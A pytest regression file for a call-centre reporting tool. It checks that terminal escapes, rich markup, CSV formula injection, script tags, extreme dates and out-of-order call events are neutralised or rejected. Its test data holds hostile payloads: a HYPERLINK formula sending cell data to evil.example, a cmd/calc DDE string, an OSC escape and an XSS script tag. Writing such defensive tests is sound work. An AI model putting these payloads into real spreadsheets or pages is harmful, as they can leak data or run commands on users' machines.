"""Regressions of issue 16 (hostile input, round 3) in what the operator's terminal, a
spreadsheet and a supervisor's browser get: rich markup and terminal escape sequences in text
fields, CSV formula injection, extreme days, unbounded rebuild ranges, and a call's events out
of time order."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner

from acd_cli import (
    admin_cli,
    html_report,
    output,
    report_cli,
    report_context,
    report_figures,
    report_listings,
)
from acd_hub import kpis
from acd_hub.call_stats import call_summary, contribution
from acd_hub.events import StoredEvent
from acd_hub.reports.agent_day import AgentDayReport
from acd_hub.reports.freshness import Freshness
from tests.kpi_oracle import kpis as oracle_kpis
from tests.support import stored_call_events
from tests.unit.test_fuzz_reports import board_entry, rendered, timeline_entry

ZONE = ZoneInfo("Europe/Berlin")
NOW = datetime(2026, 11, 20, 10, 0, tzinfo=UTC)


# --- 1: rich markup in any free-text field --------------------------------------------------


@pytest.mark.parametrize("text", ["[/]", "[link=http://evil.example]click[/link]", "[black on black]x[/]"])
def test_markup_in_a_pause_reason_is_shown_as_sent(text: str) -> None:
    table = rendered(
        output.to_table([board_entry(text)], report_listings.board_columns(ZONE, NOW), title="Live board")
    )
    assert f"paused: {text}" in table
    timeline = rendered(output.to_table([timeline_entry(text)], report_figures.timeline_columns(ZONE)))
    assert text in timeline


def test_markup_in_a_title_or_a_name_value_report_is_shown_as_sent() -> None:
    assert "Agent [/] x" in rendered(output.to_table([], [output.field("agent")], title="Agent [/] x"))
    assert "[bold]y" in rendered(output.key_value_table([("classification", "[bold]y")], title="[/]"))


# --- 2: terminal escape sequences --------------------------------------------------------------

OSC_TITLE = "\x1b]0;PWNED\x1b\\\x1b[8mhidden\x1b[0m"


def test_escape_sequences_are_shown_escaped_in_tables() -> None:
    table = rendered(output.to_table([board_entry(OSC_TITLE)], report_listings.board_columns(ZONE, NOW)))
    assert "\x1b" not in table
    assert "\\x1b]0;PWNED\\x1b\\\\x1b[8mhidden\\x1b[0m" in table
    for char in ("\x9b", "\u202e", "\r", "\x07"):
        assert char not in rendered(
            output.to_table([board_entry(f"a{char}b")], report_listings.board_columns(ZONE, NOW))
        )


def test_json_output_escapes_c1_controls_and_keeps_the_value() -> None:
    item = {"message": "\x9b31m red \x1b[0m \u2028"}
    text = output.to_json([item])
    assert all(c.isprintable() or c == "\n" for c in text)
    assert json.loads(text) == [item]


# --- 3: CSV formula injection ------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_a_value_a_spreadsheet_would_run_is_neutralised(value: str) -> None:
    (_, row) = list(csv.reader(io.StringIO(output.to_csv([{"pause_reason": value}]), newline="")))
    assert row == ["'" + value]
    (_, row) = list(csv.reader(io.StringIO(output.to_csv([{"r": value}], [output.field("r")]), newline="")))
    assert row == ["'" + value]


@pytest.mark.parametrize("value", ["+492212601599", "-1", "-0.5", "Mittagspause", "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value: str) -> None:
    (_, row) = list(csv.reader(io.StringIO(output.to_csv([{"v": value}]), newline="")))
    assert row == [value]


# --- 8: extreme days -----------------------------------------------------------------------------


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01", "1999-12-31", "2100-01-01"])
def test_an_extreme_day_is_out_of_range_exit_2(tmp_path: Any, day: str) -> None:
    for args in (
        ["html", "--day", day, "--out", str(tmp_path / "r.html")],
        ["kpis", "--hotline", "501", "--day", day],
        ["serve", "--as-of", f"{day} 10:00"],
    ):
        result = CliRunner().invoke(report_cli.cli, ["--endpoint-url", "http://127.0.0.1:9", *args])
        assert result.exit_code == 2, result.output
        assert "day out of range" in result.output
        assert "Traceback" not in result.output


@pytest.mark.parametrize(
    "text", ['[hotlines]\n501 = "Vertrieb\n', "[hotlines]\n501 = 7\n", "hotlines = [501]\n"]
)
def test_serve_with_a_broken_names_file_is_an_error_before_it_listens(
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    """It started and answered every figure with a 400 naming --names instead."""
    from acd_cli import wallboard  # noqa: PLC0415

    started = []
    monkeypatch.setattr(wallboard, "WallboardServer", lambda *args: started.append(args))
    path = tmp_path / "names.toml"
    path.write_text(text, encoding="utf-8")
    result = CliRunner().invoke(
        report_cli.cli, ["--endpoint-url", "http://127.0.0.1:9", "--names", str(path), "serve", "--port", "0"]
    )
    assert result.exit_code == 2, result.output
    assert f"--names: {path}" in result.output
    assert "Traceback" not in result.output
    assert started == []


def test_the_first_and_last_day_are_in_range() -> None:
    assert report_context.parse_day("2000-01-01") == "2000-01-01"
    assert report_context.parse_day("2099-12-31") == "2099-12-31"


# --- 11: unbounded rebuild ranges --------------------------------------------------------------


def test_a_rebuild_range_beyond_the_bound_is_refused_before_any_work() -> None:
    result = CliRunner().invoke(
        admin_cli.cli,
        ["--endpoint-url", "http://127.0.0.1:9", "rebuild", "--day", "2000-01-01", "--to", "2099-12-31"],
    )
    assert result.exit_code == 2, result.output
    assert "36,525 days" in result.output
    assert "--max-days 92" in result.output
    result = CliRunner().invoke(
        admin_cli.cli,
        ["--endpoint-url", "http://127.0.0.1:9", "rebuild", "--day", "1900-01-01", "--to", "2100-01-01"],
    )
    assert result.exit_code == 2
    assert "day out of range" in result.output


def test_the_rebuild_bound_is_a_setting(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ACD_MAX_REBUILD_DAYS", "2")
    result = CliRunner().invoke(
        admin_cli.cli,
        ["--endpoint-url", "http://127.0.0.1:9", "rebuild", "--day", "2026-11-01", "--to", "2026-11-03"],
    )
    assert result.exit_code == 2
    assert "3 days from 2026-11-01 to 2026-11-03 is more than --max-days 2" in result.output


# --- the HTML day report's charts escape what they show -----------------------------------------


def test_the_timeline_chart_escapes_a_pause_reason() -> None:
    interval = {"state": "paused", "pause_reason": "<script>alert(1)</script>", "seconds": 600}
    start = int(datetime(2026, 11, 20, 9, tzinfo=UTC).timestamp() * 1000)
    from acd_hub.agent_stats import StateInterval  # noqa: PLC0415

    timeline = [StateInterval("paused", start, start + 600_000, pause_reason=str(interval["pause_reason"]))]
    day = AgentDayReport(
        "100001", "2026-11-20", {"paused": 600}, {"x": 600}, 0, None, None, timeline=timeline
    )
    page = html_report.render(
        html_report.DayReport(
            "2026-11-20", ZONE, {}, {"100001": day}, Freshness(None, None, None, False, []), NOW
        )
    )
    assert "<script>alert(1)" not in page


# A day report drawn in a process of its own: the renderer aborted the process it ran in.
DRAW_HOSTILE_TIMELINE = """
from datetime import UTC, datetime
from zoneinfo import ZoneInfo
from acd_cli import html_report
from acd_cli.names import Names
from acd_hub.agent_stats import StateInterval
from acd_hub.reports.agent_day import AgentDayReport
from acd_hub.reports.freshness import Freshness

start = int(datetime(2026, 11, 20, 8, tzinfo=UTC).timestamp() * 1000)
timeline = [StateInterval("paused", start, start + 3_600_000, pause_reason="lunch\\uffffbreak")]
day = AgentDayReport("100001", "2026-11-20", {"paused": 3600}, {"x": 3600}, 0, None, None, timeline=timeline)
report = html_report.DayReport(
    "2026-11-20", ZoneInfo("Europe/Berlin"), {}, {"100001": day}, Freshness(None, None, None, False, []),
    datetime(2026, 11, 20, 10, tzinfo=UTC),
)
report.names = Names(agents={"100001": "Anna \\x1b[31mBecker"})
page = html_report.render(report)
assert "lunch\\ufffdbreak" in page and "Anna \\ufffd[31mBecker" in page, "not drawn"  # the chart's text; the tables show the text as stored
print("drawn")
"""


def test_a_character_xml_cannot_hold_in_a_chart_is_drawn_as_a_replacement() -> None:
    """U+FFFF passes the ingest's check of a pause reason, a names file may spell ESC: either in a
    chart made the renderer panic and abort the process (serve, html, the board's function)."""
    drawn = subprocess.run(
        [sys.executable, "-c", DRAW_HOSTILE_TIMELINE],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert drawn.returncode == 0, drawn.stderr[-2000:]
    assert drawn.stdout.strip() == "drawn"
    assert "panicked" not in drawn.stderr


def test_xml_safe_keeps_what_xml_can_hold() -> None:
    text = "Müller \u202e\t\n\r \U0010ffff \ufffd"
    assert html_report.xml_safe({"a": [text, 1, None], "b": ("x\x00", 2.5)}) == {
        "a": [text, 1, None],
        "b": ["x\ufffd", 2.5],
    }
    assert html_report.xml_safe("\ud800\uffff\ufffe\x1b\x7f") == "\ufffd" * 4 + "\x7f"


# --- 4: a call's events out of time order ----------------------------------------------------------


def events(*sent: tuple[str, str]) -> list[StoredEvent]:
    return stored_call_events(sent, NOW)


def figures(sent: list[StoredEvent]) -> tuple[Any, dict[str, Any]]:
    summary = call_summary("c0ffee", sent, [], ZONE)
    oracle = oracle_kpis([summary.as_dict()], 20)
    share = contribution(summary, 20)
    assert share is not None
    assert kpis.figures(share.counters, share.wait_ms) == oracle
    return summary, oracle


def test_a_call_across_the_autumn_change_has_no_negative_talk_time() -> None:
    summary, oracle = figures(
        events(
            ("CallStart", "2026-10-25 02:50:00"),
            ("Connected", "2026-10-25 02:50:10"),
            ("CallEnd", "2026-10-25 02:05:00"),  # the second 02:05, read as the first
        )
    )
    assert summary.wait_s == 10
    assert summary.talk_s is None
    assert summary.problems == ["ended_before_answer", "dst_doubtful_times"]
    assert oracle["aht_s"] is None
    assert oracle["avg_talk_s"] is None
    assert oracle["answered_within_sl"] == 1  # it was answered after 10 s: that stands


def test_connected_before_callstart_is_not_within_the_service_level() -> None:
    summary, oracle = figures(
        events(
            ("CallStart", "2026-11-20 10:10:00"),
            ("Connected", "2026-11-20 10:00:00"),
            ("CallEnd", "2026-11-20 10:15:00"),
        )
    )
    assert summary.wait_s is None
    assert "answered_before_start" in summary.problems
    assert (oracle["answered"], oracle["answered_within_sl"], oracle["service_level_pct"]) == (1, 0, 0.0)
    assert oracle["asa_s"] is None
    assert oracle["max_wait_s"] is None


def test_a_late_holdstop_is_cut_to_the_call() -> None:
    summary, oracle = figures(
        events(
            ("CallStart", "2026-11-20 10:00:00"),
            ("Connected", "2026-11-20 10:00:05"),
            ("Holdstart", "2026-11-20 10:01:00"),
            ("CallEnd", "2026-11-20 10:02:00"),
            ("Holdstop", "2026-11-20 10:30:00"),
        )
    )
    assert (summary.talk_s, summary.hold_s) == (55, 60)
    assert summary.problems == ["hold_outside_call"]
    assert oracle["avg_talk_s"] == 55


def test_a_flagged_call_is_listed_with_its_problem() -> None:
    summary, _ = figures(events(("CallStart", "2026-11-20 10:10:00"), ("Connected", "2026-11-20 10:00:00")))
    table = rendered(output.to_table([summary.as_dict()], report_listings.call_columns(ZONE, problems=True)))
    assert "answered before it started" in table
    assert json.loads(output.to_json([summary.as_dict()]))[0]["problems"] == ["answered_before_start"]
